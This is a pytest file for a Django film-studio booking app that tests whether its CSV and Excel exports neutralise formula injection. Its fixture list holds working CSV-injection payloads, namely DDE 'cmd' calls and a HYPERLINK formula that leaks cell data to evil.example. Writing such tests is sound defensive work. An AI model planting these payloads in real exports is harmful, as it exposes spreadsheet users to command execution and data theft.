"""Every CSV/spreadsheet export neutralises formulas (OWASP's CSV-injection rule) and keeps numbers numbers.

The exports: the admin's "export the selected sets as CSV" action (``locations.importing``
``set_catalogue_export``), the crew's day-out-of-days CSV (``/api/v1/crews/{id}/day-out-of-days/
?format=csv``) a base's occupancy (``/api/v1/bases/{id}/occupancy/?format=csv`` and the page's
``/app/occupancy/export.csv``) and a zone's figures (``/api/v1/zones/{id}/stats/?format=csv``,
``/app/zone/export.csv``). ``test_every_export_is_known_here`` fails when code starts writing a
spreadsheet somewhere else, so that a new export gets its test here.
"""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse

from config.spreadsheets import safe_cell, unescape_cell
from locations.importing import set_catalogue_export, set_catalogue_import
from locations.models import Set
from studio.models import Membership
from tests.crews.factories import CallFactory, CrewFactory, PersonFactory, ShootDayFactory
from tests.factories import (
    BaseFactory,
    BookingFactory,
    MembershipFactory,
    OperatorFactory,
    ProductionFactory,
    SetFactory,
    UserFactory,
)

MALICIOUS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

#: Every module that writes a spreadsheet (CSV or Excel) and the test below that covers it.
EXPORT_MODULES = {
    "locations/importing.py": "test_admin_set_export_neutralises_formulas_and_keeps_numbers",
    "locations/admin.py": "test_admin_set_export_neutralises_formulas_and_keeps_numbers",
    "config/spreadsheets.py": "test_day_out_of_days_csv_neutralises_formulas_and_keeps_numbers",
    "crews/api/views/roster.py": "test_day_out_of_days_csv_neutralises_formulas_and_keeps_numbers",
    "bookings/api/views.py": "test_occupancy_csv_neutralises_formulas_and_keeps_numbers",
    "bookings/web/occupancy.py": "test_occupancy_csv_neutralises_formulas_and_keeps_numbers",
    "bookings/web/urls.py": "test_occupancy_workbook_keeps_formula_text_as_text_and_numbers_as_numbers",
    "bookings/web/productions.py": "test_production_spend_csv_neutralises_formulas_and_keeps_numbers",
    "review/api/views.py": "test_review_dashboard_csv_neutralises_formulas_and_keeps_numbers",
    "review/admin/dashboard.py": "test_review_dashboard_csv_neutralises_formulas_and_keeps_numbers",
    "bookings/api/zone.py": "test_zone_csv_neutralises_formulas_and_keeps_numbers",
    "bookings/web/zone.py": "test_zone_csv_neutralises_formulas_and_keeps_numbers",
}
WRITES_A_SPREADSHEET = re.compile(
    r"csv\.writer|csv\.DictWriter|text/csv|\.xlsx|openpyxl|xlsxwriter|\.export\(|export_data\("
)


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def is_formula(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def same_csv_without_formulas(responses) -> list[list[list[str]]]:
    """The non-empty rows of each CSV response, after checking that the responses are one and the same
    CSV file (200, ``text/csv``) and that no cell could run as a formula."""
    assert responses[0].content == responses[1].content
    answers = []
    for response in responses:
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        rows = [row for row in read_csv(response.content) if row]
        for row in rows:
            assert not any(is_formula(cell) for cell in row), row
        answers.append(rows)
    return answers


@pytest.mark.parametrize("text", MALICIOUS)
def test_a_cell_that_would_be_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text
    assert unescape_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    "value", [12, -12, Decimal("-12.50"), 3.5, None, True, "-12.5", "+86", "1e3", "林晚", "'quoted", "a=b"]
)
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) is value
    assert unescape_cell(value) is value


def test_every_export_is_known_here():
    root = Path(settings.BASE_DIR)
    found = set()
    for app in ("config", "studio", "review", "locations", "bookings", "crews", "notifications"):
        for path in (root / app).rglob("*.py"):
            if "migrations" in path.parts:
                continue
            relative = path.relative_to(root).as_posix()
            if WRITES_A_SPREADSHEET.search(path.read_text(encoding="utf-8")):
                found.add(relative)
    assert all(callable(globals().get(name)) for name in EXPORT_MODULES.values())
    unknown = sorted(found - set(EXPORT_MODULES))
    assert not unknown, (
        f"{unknown} write CSV or spreadsheets: pass every cell through config.spreadsheets.safe_cell and "
        "add a test here (and the module to EXPORT_MODULES)"
    )


@pytest.mark.django_db
def test_admin_set_export_neutralises_formulas_and_keeps_numbers():
    operator = OperatorFactory()
    user = UserFactory(is_staff=True)
    MembershipFactory(user=user, organization=operator, role=Membership.Role.MANAGER)
    client = Client()
    client.force_login(user)
    base = BaseFactory(operator=operator, name='=HYPERLINK("http://evil.example")')
    sets = [
        SetFactory(
            base=base,
            name=name,
            description="@SUM(1+1)",
            tags=["=1+1", "豪门"],
            hourly_rate=Decimal("350.00"),
            crew_capacity=40,
        )
        for name in MALICIOUS
    ]

    response = client.post(
        reverse("admin:locations_set_changelist"),
        {"action": "export_csv", "_selected_action": [set_.pk for set_ in sets]},
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    header, *rows = read_csv(response.content)
    assert len(rows) == len(MALICIOUS)
    for row in rows:
        assert not any(is_formula(cell) for cell in row), row
    by_column = [dict(zip(header, row, strict=True)) for row in rows]
    assert sorted(row["name"] for row in by_column) == sorted("'" + name for name in MALICIOUS)
    assert {row["base"] for row in by_column} == {'\'=HYPERLINK("http://evil.example")'}
    assert {row["description"] for row in by_column} == {"'@SUM(1+1)"}
    assert {row["tags"] for row in by_column} == {"'=1+1,豪门"}
    assert {Decimal(row["hourly_rate"]) for row in by_column} == {Decimal("350.00")}
    assert {int(row["crew_capacity"]) for row in by_column} == {40}


@pytest.mark.django_db
def test_production_spend_csv_neutralises_formulas_and_keeps_numbers():
    production = ProductionFactory(title="=cmd|' /C calc'!A0")
    client = Client()
    client.force_login(MembershipFactory(organization=production.company).user)
    base = BaseFactory(name='=HYPERLINK("http://evil.example")')
    BookingFactory(set=SetFactory(base=base), production=production, total_price=Decimal("1200.00"))

    response = client.get(f"/app/productions/{production.pk}/spend.csv")

    assert response["Content-Type"].startswith("text/csv")
    header, *rows = read_csv(response.content)
    for row in rows:
        assert not any(is_formula(cell) for cell in row), row
    assert {row[1] for row in rows} >= {'\'=HYPERLINK("http://evil.example")', "'=cmd|' /C calc'!A0"}
    assert rows[0][2:] == ["1200.00", "0.00", "1200.00"]


@pytest.mark.django_db
def test_set_export_read_back_changes_nothing():
    operator = OperatorFactory()
    base = BaseFactory(operator=operator, name="一号基地")
    for name in MALICIOUS[:5]:  # (the import trims a name's leading tab or line break)
        SetFactory(base=base, name=name, description="=1+1", tags=["@x"])
    before = sorted(Set.objects.values_list("name", "description", "tags"))

    exported = set_catalogue_export(sets=Set.objects.all())
    result = set_catalogue_import(operator=operator, data=exported, by=None)

    assert result["created"] == 0
    assert sorted(Set.objects.values_list("name", "description", "tags")) == before


@pytest.mark.django_db
def test_day_out_of_days_csv_neutralises_formulas_and_keeps_numbers(api):
    owner = MembershipFactory(role=Membership.Role.OWNER)
    company = owner.organization
    crew = CrewFactory(production=ProductionFactory(company=company))
    day = ShootDayFactory(crew=crew, date=date(2030, 5, 1))
    for name in MALICIOUS:
        CallFactory(shoot_day=day, person=PersonFactory(company=company, name=name))

    response = api(owner.user, company).get(f"/api/v1/crews/{day.crew.pk}/day-out-of-days/?format=csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    header, *rows = read_csv(response.content)
    assert len(rows) == len(MALICIOUS)
    for row in rows:
        assert not any(is_formula(cell) for cell in row), row
    assert sorted(row[0] for row in rows) == sorted("'" + name for name in MALICIOUS)
    assert {row[-1] for row in rows} == {"1"}  # the day count is still a number
    assert header[2] == "2030-05-01"


@pytest.mark.django_db
def test_occupancy_csv_neutralises_formulas_and_keeps_numbers(api):
    owner = MembershipFactory(organization=OperatorFactory(), role=Membership.Role.OWNER)
    base = BaseFactory(operator=owner.organization)
    for name in MALICIOUS:
        SetFactory(base=base, name=name)
    query = {"from": "2031-03-03", "to": "2031-03-04"}
    page = Client()
    page.force_login(owner.user)
    responses = [
        api(owner.user, owner.organization).get(
            f"/api/v1/bases/{base.pk}/occupancy/", {**query, "format": "csv"}
        ),
        page.get("/app/occupancy/export.csv", {"base": base.pk, **query}),
    ]
    for rows in same_csv_without_formulas(responses):
        set_rows = [row for row in rows if row[0] in ("Set", "场景")]
        assert sorted({row[1] for row in set_rows}) == sorted("'" + name for name in MALICIOUS)
        # a base without opening hours is open round the clock: 24 hours a set a day
        assert {row[5] for row in set_rows} == {"24.00"}


@pytest.mark.django_db
def test_occupancy_workbook_keeps_formula_text_as_text_and_numbers_as_numbers(api):
    from openpyxl import load_workbook

    owner = MembershipFactory(organization=OperatorFactory(), role=Membership.Role.OWNER)
    base = BaseFactory(operator=owner.organization)
    for name in MALICIOUS:
        SetFactory(base=base, name=name)
    query = {"from": "2031-03-03", "to": "2031-03-04"}
    page = Client()
    page.force_login(owner.user)
    responses = [
        api(owner.user, owner.organization).get(
            f"/api/v1/bases/{base.pk}/occupancy/", {**query, "format": "xlsx"}
        ),
        page.get("/app/occupancy/export.xlsx", {"base": base.pk, **query}),
    ]
    csv_rows = [
        row
        for row in read_csv(page.get("/app/occupancy/export.csv", {"base": base.pk, **query}).content)
        if row
    ]
    for response in responses:
        assert response.status_code == 200
        assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        assert response["Content-Disposition"].endswith('.xlsx"')
        sheet = load_workbook(io.BytesIO(response.content)).active
        rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
        assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
        set_rows = [row for row in rows if row[0] in ("Set", "场景")]
        # as written, and text (XML keeps no lone carriage return: it reads back as a line feed)
        assert sorted({row[1] for row in set_rows}) == sorted(name.replace("\r", "\n") for name in MALICIOUS)
        assert {row[5] for row in set_rows} == {24}  # a number, not text
        # the same table as the CSV, cell for cell (the CSV's leading ' aside)
        assert len([row for row in rows if any(cell not in (None, "") for cell in row)]) == len(csv_rows)


@pytest.mark.django_db
def test_review_dashboard_csv_neutralises_formulas_and_keeps_numbers(api):
    from review import services
    from tests.factories import CompanyFactory, ProductionFactory, ReviewCentreFactory
    from tests.review.conftest import attach_required, ensure_tier_rules

    ensure_tier_rules()
    centre = ReviewCentreFactory(name=MALICIOUS[2])
    reviewer = MembershipFactory(organization=centre, role=Membership.Role.REVIEWER, user__is_staff=True).user
    company = CompanyFactory(name=MALICIOUS[0])
    coordinator = MembershipFactory(organization=company, role=Membership.Role.COORDINATOR).user
    for title in MALICIOUS:
        production = ProductionFactory(company=company, title=title, total_investment=Decimal("3500000.00"))
        draft = services.submission_create(
            production=production, centre=centre, kind="planning_dossier", by=coordinator
        )
        attach_required(draft)
        services.submission_submit(submission=draft, by=coordinator)
    page = Client()
    page.force_login(reviewer)
    responses = [
        api(reviewer, centre).get(f"/api/v1/review-centres/{centre.pk}/dashboard/", {"format": "csv"}),
        page.get(reverse("admin:review_reviewsubmission_dashboard_csv", args=[centre.pk])),
    ]
    for rows in same_csv_without_formulas(responses):
        assert rows[1][0] == "'" + MALICIOUS[2]
        open_rows = [row for row in rows if row[1] == "'" + MALICIOUS[0]]
        assert sorted(row[0] for row in open_rows) == sorted(f"'{title} · v1" for title in MALICIOUS)
        # the count of open submissions in "submitted" stays a number
        stage_rows = [row for row in rows if row[0] in ("submitted", "已提交", "Submitted")]
        assert stage_rows and stage_rows[0][1] == str(len(MALICIOUS))


@pytest.mark.django_db
def test_zone_csv_neutralises_formulas_and_keeps_numbers(api):
    from tests.factories import PlaceFactory, ZoneFactory, ZoneManagementFactory

    management = ZoneManagementFactory()
    zone = ZoneFactory(name=MALICIOUS[0], management=management)
    base = BaseFactory(zone=zone, name=MALICIOUS[1])
    SetFactory(base=base)
    PlaceFactory(zone=zone, name=MALICIOUS[2])
    user = MembershipFactory(organization=management, role=Membership.Role.MEMBER).user
    page = Client()
    page.force_login(user)
    window = {"from": "2026-09", "to": "2026-10"}
    responses = [
        api(user).get(f"/api/v1/zones/{zone.pk}/stats/", {**window, "format": "csv"}),
        page.get(reverse("bookings:zone-csv"), {"zone": zone.pk, **window}),
    ]
    for rows in same_csv_without_formulas(responses):
        assert rows[1][0] == "'" + MALICIOUS[0]
        assert ["'" + MALICIOUS[1], "2026-09", "720.00", "0.00", "0.00"] in rows  # open round the clock
        assert ["'" + MALICIOUS[2], "1", "1", "1"] in rows
